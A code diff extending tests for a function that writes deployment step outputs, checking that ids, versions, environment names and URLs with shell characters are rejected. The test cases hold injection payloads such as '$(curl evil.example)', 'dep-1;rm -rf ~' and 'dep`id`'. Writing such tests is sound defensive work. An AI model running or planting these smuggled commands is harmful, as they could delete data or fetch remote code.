@@ -1,6 +1,6 @@
 import { writeOutputs } from '../../src/outputs.js'
 import type { Outputs } from '../../src/report.js'
-import type { Deployment } from '../../src/types.js'
+import type { Deployment, Environment } from '../../src/types.js'
 
 function record(outputs: Outputs): Array<[string, string]> {
   const calls: Array<[string, string]> = []
@@ -56,14 +56,82 @@ describe('writeOutputs', () => {
     ])
   })
 
-  test('values with newlines and delimiter-like text pass through untouched for setOutput to encode', () => {
+  test('JSON outputs keep text with newlines and delimiter-like text on one line, as valid JSON', () => {
     const tricky = 'v1\nother=forged\n<<EOF\nx\nEOF'
-    expect(record({ changed: true, version: tricky, configPage: { clientEnv: 'live', note: tricky } })).toEqual([
+    const calls: Array<[string, string]> = []
+    expect(writeOutputs({ changed: true, configPage: { clientEnv: 'live', note: tricky } }, (n, v) => calls.push([n, v]))).toBeUndefined()
+    expect(calls).toEqual([
       ['changed', 'true'],
-      ['version', tricky],
       ['configPage', JSON.stringify({ clientEnv: 'live', note: tricky })]
     ])
-    // the JSON form keeps the structured value on one line
-    expect(JSON.stringify({ note: tricky })).not.toContain('\n')
+    expect(calls[1]![1]).not.toContain('\n')
+    expect(JSON.parse(calls[1]![1])).toEqual({ clientEnv: 'live', note: tricky })
   })
+
+  test.each([
+    ['a newline', 'dep-1\necho pwned'],
+    ['a command substitution', '$(curl evil.example)'],
+    ['a semicolon', 'dep-1;rm -rf ~'],
+    ['a backtick', 'dep`id`'],
+    ['a space', 'dep 1'],
+    ['too many characters', 'a'.repeat(129)]
+  ])('an id with %s is never written, nor the JSON carrying it, and the step fails naming it', (_what, id) => {
+    const calls: Array<[string, string]> = []
+    const failure = writeOutputs(
+      { changed: true, deploymentId: id, environment: 'live', version: 'v1', deployment: { ...DEP, id }, testRunIds: ['t1', id] },
+      (n, v) => calls.push([n, v])
+    )
+    expect(calls).toEqual([
+      ['changed', 'true'],
+      ['environment', 'live'],
+      ['version', 'v1']
+    ])
+    expect(failure).toContain('cannot be step outputs')
+    expect(failure).toContain(`deploymentId ${JSON.stringify(id.length > 80 ? `${id.slice(0, 80)}…` : id)}`)
+    expect(failure).toContain('deployment.id')
+    expect(failure).toContain('testRunIds[1]')
+    expect(failure).not.toContain('\n')
+  })
+
+  test('versions and environment names are held to the same rule; ids with . _ : - are fine', () => {
+    const calls: Array<[string, string]> = []
+    const failure = writeOutputs({ changed: false, deploymentId: 'dep_1.2:3-x', version: 'v1 && id', environment: 'live\nx' as Environment }, (n, v) => calls.push([n, v]))
+    expect(calls).toEqual([
+      ['changed', 'false'],
+      ['deploymentId', 'dep_1.2:3-x']
+    ])
+    expect(failure).toContain('environment "live\\nx"')
+    expect(failure).toContain('version "v1 && id"')
+  })
+})
+
+describe('outputs added since: commentUrl and list-deployments', () => {
+  test('a GitHub comment URL is written; one with shell characters is not', () => {
+    const calls: Array<[string, string]> = []
+    const url = 'https://github.com/acme/agents/pull/7#issuecomment-123456'
+    expect(writeOutputs({ changed: false, commentUrl: url }, (n, v) => calls.push([n, v]))).toBeUndefined()
+    expect(calls).toContainEqual(['commentUrl', url])
+    const bad: Array<[string, string]> = []
+    expect(writeOutputs({ changed: false, commentUrl: 'https://x/$(id)' }, (n, v) => bad.push([n, v]))).toContain('commentUrl "https://x/$(id)"')
+    expect(bad).toEqual([['changed', 'false']])
+  })
+
+  test('the ids and versions in deployments are held to the same rule', () => {
+    const calls: Array<[string, string]> = []
+    const list = [{ id: 'dep-1', version: 'v1', environment: 'live' }, { id: 'dep-2\nx', version: 'v2', environment: 'live' }]
+    const failure = writeOutputs({ changed: false, deployments: list as unknown as Outputs['deployments'] & object }, (n, v) => calls.push([n, v]))
+    expect(failure).toContain('deployments[1].id')
+    expect(calls).toEqual([['changed', 'false']])
+  })
+})
+
+test('a deployment whose environment is the server\'s free text ("Live (EU)") is still written as JSON; the environment output is the stage key', () => {
+  const calls: Array<[string, string]> = []
+  const deployment = { ...DEP, environment: 'Live (EU)' as Environment }
+  expect(writeOutputs({ changed: true, environment: 'live', deployment }, (n, v) => calls.push([n, v]))).toBeUndefined()
+  expect(calls).toEqual([
+    ['changed', 'true'],
+    ['environment', 'live'],
+    ['deployment', JSON.stringify(deployment)]
+  ])
 })
